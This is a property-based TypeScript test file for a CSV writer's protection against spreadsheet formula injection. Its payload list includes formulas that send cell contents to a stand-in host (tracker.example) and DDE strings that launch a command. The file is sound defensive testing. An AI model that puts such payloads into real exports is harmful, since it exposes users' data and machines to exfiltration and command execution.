import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvRecords } from './csv';
import { type CsvCell, writeCsv } from './csvWriter';

/** Rows as a reader of RFC 4180 gives them back. */
function read(text: string): string[][] {
  const rows: string[][] = [];
  const csv = new CsvRecords({
    file: 'a.csv',
    delimiter: ',',
    onRecord: (fields) => void rows.push([...fields]),
    onBad: (error) => {
      throw error;
    },
  });
  text
    .slice(0, -1)
    .split('\n')
    .forEach((line, index) => {
      csv.push(line, index + 1);
    });
  csv.finish();
  return rows;
}

/** First letters that a spreadsheet may take for the beginning of a formula. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
/** The usual ways in, by the public lists. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://tracker.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://tracker.example/",A1),"//a")',
  '=WEBSERVICE("https://tracker.example/")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1";=1+1',
  '"=1+1',
  ',=1+1',
];
const cell = fc.oneof(
  fc.string({ unit: fc.constantFrom(...STARTS, 'a', '"', ',', "'", '1', ' '), maxLength: 8 }),
  fc.constantFrom(...FORMULAS),
  fc.double({ noDefaultInfinity: true, noNaN: true }),
  fc.constant(null),
) as fc.Arbitrary<CsvCell>;
const startsFormula = (text: string): boolean => STARTS.some((start) => text.startsWith(start));

describe('writeCsv', () => {
  it.each(FORMULAS)('leaves %j no formula in any cell', (formula) => {
    const [, row = []] = read(writeCsv(['a', 'b'], [[formula, 1]]));
    expect(row.some((text) => startsFormula(text))).toBe(false);
    expect(row[0]?.replace(/^'/, '')).toBe(formula.replaceAll('\r\n', '\n'));
  });

  it('gives back every text and every number bit for bit, and nothing that starts a formula (20,000 cases)', () => {
    const table = fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(table, (rows) => {
        // A carriage return before a line end belongs to the line end for a reader of lines.
        fc.pre(!rows.flat().some((value) => typeof value === 'string' && /\r(\n|$)/.test(value)));
        const back = read(writeCsv(['head', 'other'], rows)).slice(1);
        expect(back).toHaveLength(rows.length);
        rows.forEach((row, at) => {
          row.forEach((value, column) => {
            const text = back[at]?.[column] ?? 'missing';
            if (typeof value === 'number') expect(Object.is(Number(text), value) || value === 0).toBe(true);
            else if (value === null) expect(text).toBe('');
            else {
              expect(startsFormula(text)).toBe(false);
              expect(startsFormula(value) ? text : `'${text}`).toBe(`'${value}`);
            }
          });
        });
      }),
      { numRuns: 20_000 },
    );
  });
});
